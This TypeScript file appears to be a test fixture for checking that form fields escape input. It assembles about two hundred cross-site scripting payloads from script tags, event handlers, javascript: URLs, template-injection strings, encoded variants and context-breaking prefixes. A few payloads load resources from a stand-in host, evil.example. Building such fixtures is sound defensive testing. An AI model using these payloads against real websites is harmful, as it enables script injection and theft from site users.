/**
 * Texts that run as code where somebody forgets that they are texts. Each calls `xss()` or `alert()`, and what is an
 * element carries `data-xss`, so that it is found even where a policy keeps it from running.
 */
const BODIES = [
  "<script data-xss>xss()</script>",
  "<img data-xss src=x onerror=xss()>",
  "<svg data-xss onload=xss()>",
  "<svg data-xss/onload=xss()//",
  "<body data-xss onload=xss()>",
  "<details data-xss open ontoggle=xss()>",
  "<input data-xss autofocus onfocus=xss()>",
  "<iframe data-xss srcdoc='<script>parent.xss()</script>'>",
  "<iframe data-xss src=javascript:parent.xss()>",
  "<a data-xss href=javascript:xss()>x</a>",
  "<object data-xss data=javascript:xss()>",
  "<embed data-xss src=javascript:xss()>",
  "<base data-xss href=//evil.example/>",
  "<meta data-xss http-equiv=refresh content='0;url=javascript:xss()'>",
  "<link data-xss rel=stylesheet href=//evil.example/x.css>",
  "<style data-xss>*{background:url(//evil.example/x)}</style>",
  "<form data-xss action=javascript:xss()><button>x</form>",
  "<video data-xss><source onerror=xss()></video>",
  "<math data-xss><mtext><img src=x onerror=xss()></math>",
  "<template data-xss><script>xss()</script></template>",
  "<x data-xss onclick=xss() tabindex=1 id=x>x</x>",
  "javascript:xss()",
  "data:text/html,<script>xss()</script>",
  "**<img data-xss src=x onerror=xss()>**",
  "[x](javascript:xss())",
  "{{constructor.constructor('xss()')()}}",
  "${xss()}",
  "&lt;img data-xss src=x onerror=xss()&gt;",
  "\\u003cimg data-xss src=x onerror=xss()\\u003e",
  "%3Cimg%20data-xss%20src=x%20onerror=xss()%3E",
] as const;

/** What may have to be left first. */
const EXITS = ["", '">', "'>", "</script>", "</title>", "</textarea>", "-->", "`>"] as const;

/** The longest that fits a name of the account; most other fields take 100 and more. */
export const SHORT_MAX = 50;
const MAX = 100;

/** Some two hundred texts of at most 100 characters, plain ones first. */
export const PAYLOADS: readonly string[] = EXITS.flatMap((exit) => BODIES.map((body) => exit + body)).filter(
  (text) => text.length <= MAX,
);
